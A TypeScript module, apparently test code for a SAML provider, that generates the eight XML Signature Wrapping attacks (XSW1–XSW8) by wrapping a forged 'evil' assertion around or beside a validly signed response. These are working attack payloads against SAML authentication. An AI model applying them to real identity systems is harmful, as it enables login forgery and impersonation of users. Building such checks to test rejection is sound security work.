import { assertionXml, type Said } from "./start-saml-provider";

type Signed = { xml: string; said: Said };

/** What an attacker makes of an answer whose assertion and response a provider has signed. */
function partsOf({ xml, said }: Signed) {
  const find = (pattern: RegExp) => pattern.exec(xml)?.[0] ?? "";
  const assertion = find(/<saml:Assertion[\s\S]*<\/saml:Assertion>/);
  const ofAssertion = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(assertion)?.[0] ?? "";
  const ofResponse = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml.replace(assertion, ""))?.[0] ?? "";
  const evil = assertionXml({
    ...said,
    assertionId: "_evil",
    person: { ...said.person, nameId: "evil", attributes: { ...said.person.attributes, email: "evil@evil.example" } },
  });
  /** With the signature behind the issuer, and more inside of it. */
  const withSignature = (element: string, signature: string, inside = "") =>
    element.replace(
      "</saml:Issuer>",
      `</saml:Issuer>${signature.replace("</ds:Signature>", `${inside}</ds:Signature>`)}`,
    );
  return { assertion, bare: assertion.replace(ofAssertion, ""), ofAssertion, ofResponse, evil, withSignature };
}

const evilResponse = (xml: string) => xml.replace(/ID="_response-/, 'ID="_evil-response-');

/** The eight forms of wrapping (Somorovsky et al., On Breaking SAML, 2012), which all leave the signature valid. */
export const wrappings: Record<string, (signed: Signed) => string> = {
  "XSW1: a response around the signed one, which is in the signature": (signed) => {
    const { xml, assertion, ofResponse, evil } = { ...signed, ...partsOf(signed) };
    const inner = xml.replace(ofResponse, "");
    const wrapping = ofResponse.replace("</ds:Signature>", `${inner}</ds:Signature>`);
    return evilResponse(xml.replace(ofResponse, "\0").replace(assertion, evil)).replace("\0", wrapping);
  },
  "XSW2: a response around the signed one, which is beside the signature": (signed) => {
    const { xml, assertion, ofResponse, evil } = { ...signed, ...partsOf(signed) };
    const inner = xml.replace(ofResponse, "");
    return evilResponse(xml.replace(ofResponse, "\0").replace(assertion, evil)).replace("\0", inner + ofResponse);
  },
  "XSW3: an assertion before the signed one": (signed) => {
    const { assertion, evil } = partsOf(signed);
    return signed.xml.replace(assertion, evil + assertion);
  },
  "XSW4: an assertion around the signed one": (signed) => {
    const { assertion, evil } = partsOf(signed);
    return signed.xml.replace(assertion, evil.replace("</saml:Assertion>", `${assertion}</saml:Assertion>`));
  },
  "XSW5: an assertion with the signature, and the signed one at the end": (signed) => {
    const { assertion, bare, ofAssertion, evil, withSignature } = partsOf(signed);
    return signed.xml.replace(assertion, withSignature(evil, ofAssertion) + bare);
  },
  "XSW6: an assertion with the signature, which holds the signed one": (signed) => {
    const { assertion, bare, ofAssertion, evil, withSignature } = partsOf(signed);
    return signed.xml.replace(assertion, withSignature(evil, ofAssertion, bare));
  },
  "XSW7: an assertion in an extension": (signed) => {
    const { assertion, evil } = partsOf(signed);
    return signed.xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  "XSW8: an assertion with the signature, and the signed one in an object of it": (signed) => {
    const { assertion, bare, ofAssertion, evil, withSignature } = partsOf(signed);
    return signed.xml.replace(assertion, withSignature(evil, ofAssertion, `<ds:Object>${bare}</ds:Object>`));
  },
};
